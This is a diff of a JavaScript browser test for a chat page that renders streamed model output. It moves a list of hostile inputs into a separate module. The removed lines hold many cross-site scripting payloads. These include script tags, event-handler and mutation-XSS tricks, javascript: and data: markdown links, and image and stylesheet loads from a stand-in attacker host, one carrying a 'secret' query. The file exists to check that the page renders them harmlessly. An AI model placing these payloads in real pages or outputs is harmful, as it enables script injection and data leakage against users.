@@ -1,51 +1,11 @@
-// X04, X05: what a model or anybody may write, as the chat page shows it, cut at every place as when it streams.
+// X04: what a model may write, as the chat page shows it, cut at every place as when it streams.
 import assert from 'node:assert/strict';
 import test from 'node:test';
 import { browserMissing } from '../../wasm/toolchain/browsers.mjs';
 import { openBrowser } from './browsers.mjs';
 import { serveWithHeaders } from './chat.mjs';
+import { corpusOf } from './hostile-texts.mjs';
 import { startServer } from './server.mjs';
-
-/** Where all that is fetched would be seen. */
-const corpusOf = (evil) => [
-    '<script>window.hit = 1</script>',
-    `<script src="${evil}/s.js"></script>`,
-    '<img src=x onerror="window.hit = 1">',
-    `<img src="${evil}/i.png">`,
-    '<svg onload="window.hit = 1"><animate onbegin="window.hit = 1" attributeName=x dur=1s></svg>',
-    '<svg><style><img src=x onerror=window.hit=1></style></svg>',
-    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
-    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>',
-    '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
-    '<template><img src=x onerror=window.hit=1></template>',
-    `<iframe src="${evil}/f.html" srcdoc="<script>parent.hit=1</script>"></iframe>`,
-    `<object data="${evil}/o"></object><embed src="${evil}/e">`,
-    `<link rel=stylesheet href="${evil}/l.css"><style>@import "${evil}/st.css"; body { background: url(${evil}/bg) }</style>`,
-    `<meta http-equiv=refresh content="0;url=${evil}/m"><base href="${evil}/">`,
-    `<video src="${evil}/v" autoplay onloadstart=window.hit=1></video><audio src="${evil}/a">`,
-    `<form action="${evil}/form"><input autofocus onfocus=window.hit=1><button formaction="${evil}/b">x</button></form>`,
-    '<details open ontoggle=window.hit=1><summary>x</summary></details>',
-    '<p style="position:fixed;inset:0" id="send" class="main" name="x" data-does="resume">over all</p>',
-    '<a href="javascript:window.hit=1" onclick="window.hit=1">x</a>',
-    '[x](javascript:window.hit=1) [x](JaVaScRiPt:window.hit=1) [x](java\tscript:window.hit=1) [x](&#106;avascript:window.hit=1)',
-    '[x](data:text/html,<script>window.hit=1</script>) [x](vbscript:x) [x](blob:x) [x](file:///etc/passwd)',
-    '[x](//evil.example) [x](http://plain.example) [x](https://user:secret@host.example/) [x](/relative) [x](#settings)',
-    '[looks](https://good.example "onmouseover=window.hit=1") [x](<https://good.example/" onclick="window.hit=1>)',
-    '<https://auto.example/?q="><img src=x onerror=window.hit=1>> <javascript:window.hit=1> <me@mail.example>',
-    'https://bare.example/path?x=<b>&y="z" www.bare.example me@mail.example',
-    `![tracked](${evil}/md.png?secret) ![x](javascript:window.hit=1) ![x][ref]\n\n[ref]: ${evil}/ref.png`,
-    `[![nested](${evil}/n.png)](https://good.example) [ref]\n\n[ref]: javascript:window.hit=1 "x"`,
-    '| a | <img src=x onerror=window.hit=1> |\n|---|:-:|\n| `<b>` | [x](javascript:window.hit=1) |',
-    '```html"><img src=x onerror=window.hit=1>\n<script>window.hit = 1</script>\n```\n`<script>`',
-    '    <script>window.hit=1</script>\n\n- [ ] <b>x</b>\n- [x] y\n\n> <i>q</i>\n\n3. three\n4. four',
-    '# <u>head</u>\n\nunder <s>line</s>\n===\n\n***both*** ~~gone~~ **<b>x</b>**  \nnext&lt;b&gt; &#60;script&#62;',
-    '`admin\u202etxt.exe` \u200bzero\u2066width\n\n```\nif (a) {\u202e } \u2066// x\u2069\n```',
-    '\u0000<scr\u0000ipt>window.hit=1</script>\ud800<\udc00img src=x onerror=window.hit=1>',
-    '<![CDATA[<img src=x onerror=window.hit=1>]]><?php x ?><!DOCTYPE x><!-- --!><img src=x onerror=window.hit=1> -->',
-    '<x-y onclick=window.hit=1>custom</x-y><slot></slot><dialog open>x</dialog><trit-chat src=x></trit-chat>',
-    // blocks that become others when the text goes on
-    '- a\n\n- b\n\n  c\n\n1. d\n\n2. e\n| a |\n|---|\n| b |\n\nhead\nmore\n===\n\n    code\r\n\r\n    code\n\n> q\n\n> r\n\n[x][ref] [ref]\n\n[ref]: https://good.example\n',
-];
 
 /** In the page: shows every beginning of a text, and tells what is in the document that may not be. */
 async function show(texts) {
